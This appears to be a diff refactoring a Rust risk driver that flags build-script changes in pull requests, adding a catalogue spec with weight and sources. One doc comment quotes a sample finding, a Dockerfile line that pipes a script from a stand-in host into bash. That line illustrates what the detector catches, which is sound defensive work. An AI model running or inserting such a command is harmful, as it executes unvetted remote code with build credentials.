@@ -13,17 +13,23 @@
 //!
 //! **Example.** "Build scripts changed: Dockerfile, scripts/release.sh; downloads and executes
 //! a remote script: RUN curl -fsSL https://x.example/install.sh | bash".
-//!
-//! **Source.** Reference product flag "Modifies build scripts"; pr-signal
-//! "dependency/CI/automation/Dockerfile" category; OpenSSF Scorecard Pinned-Dependencies.
 
-use super::{finding_paths, findings_of, fire, name_list, worst_factor};
+use super::{DriverSpec, finding_paths, findings_of, fire, name_list, worst_factor};
 use crate::engine::sections::supply_chain::BUILD_FINDINGS;
-use crate::engine::{Context, Sections};
+use crate::engine::context::{Context, Sections};
 use crate::settings::weights::PLAIN_BUILD_CHANGE_FACTOR;
 use crate::signal::Driver;
 
-pub fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
+/// `build_script_change` as the catalogue lists it.
+pub(crate) const SPEC: DriverSpec = DriverSpec {
+    id: "build_script_change",
+    label: "Build script change",
+    weight: 0.30,
+    source: "Reference product flag \"Modifies build scripts\"; pr-signal category dependency/CI/automation/Dockerfile; build scripts run with CI credentials (GitHub's \"Security hardening for GitHub Actions\"); PLAIN_BUILD_CHANGE_FACTOR for a plain change, else the worst finding (curl|sh high, OpenSSF Scorecard Pinned-Dependencies)",
+    evaluate,
+};
+
+fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
     let mut paths: Vec<String> = context
         .files
         .iter()
@@ -49,7 +55,7 @@ pub fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
     let scale = worst_factor(&findings).map_or(PLAIN_BUILD_CHANGE_FACTOR, |factor| {
         factor.max(PLAIN_BUILD_CHANGE_FACTOR)
     });
-    fire(context, "build_script_change", scale, detail, paths)
+    fire(context, &SPEC, scale, detail, paths)
 }
 
 #[cfg(test)]
